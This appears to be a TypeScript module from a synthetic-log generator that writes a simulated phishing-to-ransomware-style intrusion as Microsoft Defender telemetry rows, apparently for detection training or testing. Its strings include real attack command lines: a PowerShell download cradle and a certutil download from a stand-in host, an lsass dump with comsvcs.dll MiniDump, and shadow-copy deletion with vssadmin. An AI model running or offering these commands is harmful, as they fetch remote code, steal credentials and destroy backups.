/** The intrusion that the generator inserts at times, as rows of several tables. */
import type { Columns } from './columns.ts';
import { type Device, NETBIOS, SYSTEM, type User } from './company.ts';
import { PROGRAMS, type Program } from './programs.ts';
import { evidence } from './tables/alert-evidence.ts';
import { alertRaised, type DefenderAlert } from './tables/alert-info.ts';
import { cloudActivity } from './tables/cloud-app-events.ts';
import { deviceEvent } from './tables/device-events.ts';
import { fileEvent } from './tables/device-file-events.ts';
import { imageLoaded } from './tables/device-image-load-events.ts';
import { logon } from './tables/device-logon-events.ts';
import { connection } from './tables/device-network-events.ts';
import { processCreated } from './tables/device-process-events.ts';
import { registryValueSet } from './tables/device-registry-events.ts';
import { mailReceived } from './tables/email-events.ts';
import { mailUrl } from './tables/email-url-info.ts';
import { identityLogon } from './tables/identity-logon-events.ts';
import { click } from './tables/url-click-events.ts';
import { type Process, startProcess, type World } from './world.ts';

/** One row of the intrusion, and the seconds after its beginning at which it happens. */
export interface Scene {
  readonly table: string;
  readonly second: number;
  columns(at: number): Columns;
}

interface Downloader {
  readonly program: Program;
  readonly payload: string;
  commandLine(url: string, path: string): string;
}

const DOWNLOADERS: readonly [Downloader, ...Downloader[]] = [
  {
    program: PROGRAMS.certutil,
    payload: 'rechnung.dat',
    commandLine: (url, path) => `certutil.exe -urlcache -split -f ${url} ${path}`,
  },
  {
    program: PROGRAMS.mshta,
    payload: 'rechnung.hta',
    commandLine: (url) => `mshta.exe ${url}`,
  },
  {
    program: PROGRAMS.powershell,
    payload: 'rechnung.ps1',
    commandLine: (url, path) =>
      `powershell.exe -nop -w hidden -ep bypass -c "IEX(New-Object Net.WebClient).DownloadString('${url}'); iwr ${url} -OutFile ${path}"`,
  },
];

const SUBJECTS = [
  'Überfällige Rechnung 4471 – letzte Mahnung',
  'Din pakke venter på toldbehandling',
  'Re: Ankerkette, offene Position <4471>',
  '請求書のご確認',
] as const;

/**
 * The rows of one intrusion, in order: a mail, a click, a download by a tool of Windows, a reconnaissance, the memory of lsass.exe
 * dumped to disk, a logon at the file server with the stolen credentials, and the deletion of backups.
 */
export function attack(world: World): readonly Scene[] {
  const { random, company } = world;
  const victim = random.pick(company.workstations);
  const user = victim.owner ?? company.admin;
  const server = random.pick(company.servers);
  const host = `${random.pick(['cdn', 'files', 'docs'])}-${random.hex(6)}.invoice-portal.example`;
  const remoteIp = `203.0.113.${random.int(100, 250)}`;
  const downloader = random.pick(DOWNLOADERS);
  const url = `http://${host}/${downloader.payload}`;
  const folder = `C:\\Users\\${user.name}\\AppData\\Local\\Temp`;
  const path = `${folder}\\${downloader.payload}`;
  const intruder: Process = startProcess(world, Date.UTC(2026, 0, 1), {
    program: downloader.program,
    commandLine: downloader.commandLine(url, path),
    account: user,
    parent: PROGRAMS.outlook,
  });
  /** The intruder's process at `at`, because it cannot have started after what it does. */
  const by = (at: number): Process => ({
    ...intruder,
    startedAt: at - 4000,
    parent: { ...intruder.parent, startedAt: at - 3_600_000 },
  });

  return [
    ...delivery(world, { user, url, remoteIp }),
    ...download(world, { victim, user, host, url, remoteIp, folder, downloader, by }),
    ...foothold(world, { victim, user, path, by }),
    ...credentials(world, { victim, user, by }),
    ...lateral(world, { victim, server, user, remoteIp }),
    ...defendersAlert(world, { victim, user, remoteIp }),
  ];
}

function delivery(world: World, about: { user: User; url: string; remoteIp: string }): Scene[] {
  const { random } = world;
  const { user, url, remoteIp } = about;
  const networkMessageId = random.guid();
  const subject = random.pick(SUBJECTS);
  return [
    {
      table: 'EmailEvents',
      second: 0,
      columns: (at) =>
        mailReceived(world, at, {
          networkMessageId,
          from: 'buchhaltung@kestreImarine.example',
          displayName: 'Kestrel Marine Buchhaltung',
          senderIp: remoteIp,
          to: user,
          subject,
          urls: 1,
          threatTypes: 'Phish',
          detectionMethods: JSON.stringify({ Phish: ['Impersonation domain'] }),
          authentication: 'fail',
          firstContact: true,
        }),
    },
    {
      table: 'EmailUrlInfo',
      second: 1,
      columns: (at) => mailUrl(world, at, { networkMessageId, url }),
    },
    {
      table: 'UrlClickEvents',
      second: 240,
      columns: (at) =>
        click(world, at, {
          user,
          url,
          networkMessageId,
          actionType: 'ClickAllowed',
          threatTypes: 'Phish',
          clickedThrough: true,
        }),
    },
  ];
}

interface Download {
  readonly victim: Device;
  readonly user: User;
  readonly host: string;
  readonly url: string;
  readonly remoteIp: string;
  readonly folder: string;
  readonly downloader: Downloader;
  by(at: number): Process;
}

function download(world: World, about: Download): Scene[] {
  const { victim, user, host, url, remoteIp, folder, downloader, by } = about;
  return [
    {
      table: 'DeviceProcessEvents',
      second: 250,
      columns: (at) =>
        processCreated(world, at, {
          device: victim,
          program: downloader.program,
          commandLine: by(at).commandLine,
          account: user,
          initiating: startProcess(world, at, {
            program: PROGRAMS.outlook,
            commandLine: '"OUTLOOK.EXE"',
            account: user,
            parent: PROGRAMS.explorer,
          }),
        }),
    },
    {
      table: 'DeviceNetworkEvents',
      second: 251,
      columns: (at) =>
        connection(world, at, {
          device: victim,
          remoteIp,
          remotePort: 80,
          remoteUrl: host,
          initiating: by(at),
        }),
    },
    {
      table: 'DeviceFileEvents',
      second: 252,
      columns: (at) =>
        fileEvent(world, at, {
          device: victim,
          actionType: 'FileCreated',
          folder,
          fileName: downloader.payload,
          size: 48_128,
          originUrl: url,
          initiating: by(at),
        }),
    },
  ];
}

interface Foothold {
  readonly victim: Device;
  readonly user: User;
  readonly path: string;
  by(at: number): Process;
}

function foothold(world: World, about: Foothold): Scene[] {
  const { victim, user, path, by } = about;
  const run = (program: Program, commandLine: string, second: number): Scene => ({
    table: 'DeviceProcessEvents',
    second,
    columns: (at) =>
      processCreated(world, at, { device: victim, program, commandLine, account: user, initiating: by(at) }),
  });
  return [
    run(PROGRAMS.whoami, 'whoami.exe /all', 300),
    run(PROGRAMS.nltest, 'nltest.exe /domain_trusts /all_trusts', 306),
    {
      table: 'DeviceRegistryEvents',
      second: 340,
      columns: (at) =>
        registryValueSet(world, at, {
          device: victim,
          key: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          valueName: 'Havnia Updater',
          valueData: `wscript.exe //e:jscript "${path}"`,
          initiating: by(at),
        }),
    },
  ];
}

interface Credentials {
  readonly victim: Device;
  readonly user: User;
  by(at: number): Process;
}

function credentials(world: World, about: Credentials): Scene[] {
  const { victim, user, by } = about;
  const pid = world.random.int(150, 280) * 4;
  const dump = 'C:\\Windows\\Temp\\health.dmp';
  const line = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${pid} ${dump} full`;
  const dumper = (at: number) =>
    startProcess(world, at, { program: PROGRAMS.rundll32, commandLine: line, account: user, parent: by(at) });
  return [
    {
      table: 'DeviceProcessEvents',
      second: 900,
      columns: (at) =>
        processCreated(world, at, {
          device: victim,
          program: PROGRAMS.rundll32,
          commandLine: line,
          account: SYSTEM,
          initiating: by(at),
        }),
    },
    {
      table: 'DeviceImageLoadEvents',
      second: 900,
      columns: (at) =>
        imageLoaded(world, at, {
          device: victim,
          folder: 'C:\\Windows\\System32',
          fileName: 'comsvcs.dll',
          initiating: dumper(at),
        }),
    },
    {
      table: 'DeviceEvents',
      second: 901,
      columns: (at) =>
        deviceEvent(world, at, {
          device: victim,
          actionType: 'OpenProcessApiCall',
          target: PROGRAMS.lsass,
          additionalFields: { DesiredAccess: 2_097_151 },
          initiating: dumper(at),
        }),
    },
    {
      table: 'DeviceFileEvents',
      second: 902,
      columns: (at) =>
        fileEvent(world, at, {
          device: victim,
          actionType: 'FileCreated',
          folder: 'C:\\Windows\\Temp',
          fileName: 'health.dmp',
          size: 61_443_072,
          initiating: dumper(at),
        }),
    },
  ];
}

interface Lateral {
  readonly victim: Device;
  readonly server: Device;
  readonly user: User;
  readonly remoteIp: string;
}

function lateral(world: World, about: Lateral): Scene[] {
  const { company } = world;
  const { victim, server, user, remoteIp } = about;
  const onServer = (program: Program, commandLine: string, second: number): Scene => ({
    table: 'DeviceProcessEvents',
    second,
    columns: (at) =>
      processCreated(world, at, {
        device: server,
        program,
        commandLine,
        account: company.admin,
        initiating: startProcess(world, at, {
          program: PROGRAMS.wmiprvse,
          commandLine: 'wmiprvse.exe -secured -Embedding',
          account: SYSTEM,
        }),
      }),
  });
  const failures = [1380, 1382, 1385].map(
    (second): Scene => ({
      table: 'IdentityLogonEvents',
      second,
      columns: (at) =>
        identityLogon(world, at, {
          user: company.admin,
          application: 'Active Directory',
          ip: victim.ip,
          location: null,
          failure: 'WrongPassword',
          destination: server.name,
        }),
    }),
  );
  return [
    ...failures,
    {
      table: 'DeviceLogonEvents',
      second: 1400,
      columns: (at) =>
        logon(world, at, {
          device: server,
          account: company.admin,
          logonType: 'Network',
          from: victim,
          localAdmin: true,
        }),
    },
    onServer(
      PROGRAMS.cmd,
      `cmd.exe /Q /c net group "Domain Admins" /domain 1> \\\\127.0.0.1\\ADMIN$\\__${NETBIOS} 2>&1`,
      1410,
    ),
    onServer(PROGRAMS.vssadmin, 'vssadmin.exe delete shadows /all /quiet', 1500),
    {
      table: 'CloudAppEvents',
      second: 1560,
      columns: (at) =>
        cloudActivity(world, at, {
          user,
          application: 'Microsoft Exchange Online',
          actionType: 'New-InboxRule',
          ip: remoteIp,
          countryCode: 'MD',
          city: 'chișinău',
          isp: 'Starnet VPS',
          objectName: 'Rechnungen weiterleiten',
          rawEventData: {
            Parameters: [
              { Name: 'ForwardTo', Value: `archiv@invoice-portal.example` },
              { Name: 'DeleteMessage', Value: 'True' },
              { Name: 'Name', Value: '.' },
            ],
          },
          uncommon: ['ISP', 'CountryCode', 'ActionType'],
        }),
    },
  ];
}

function defendersAlert(world: World, about: { victim: Device; user: User; remoteIp: string }): Scene[] {
  const { victim, user, remoteIp } = about;
  const alert: DefenderAlert = {
    alertId: `da${world.random.hex(40)}`,
    title: 'Process memory dump of lsass.exe',
    category: 'CredentialAccess',
    severity: 'High',
    serviceSource: 'Microsoft Defender for Endpoint',
    detectionSource: 'EDR',
    techniques: ['OS Credential Dumping (T1003)', 'LSASS Memory (T1003.001)'],
  };
  const piece = (facts: Omit<Parameters<typeof evidence>[2], 'alert'>): Scene => ({
    table: 'AlertEvidence',
    second: 1800,
    columns: (at) => evidence(world, at, { alert, ...facts }),
  });
  return [
    { table: 'AlertInfo', second: 1800, columns: (at) => alertRaised(world, at, alert) },
    piece({ entityType: 'Machine', role: 'Impacted', device: victim }),
    piece({ entityType: 'User', role: 'Impacted', account: user }),
    piece({ entityType: 'Ip', role: 'Related', remoteIp }),
  ];
}
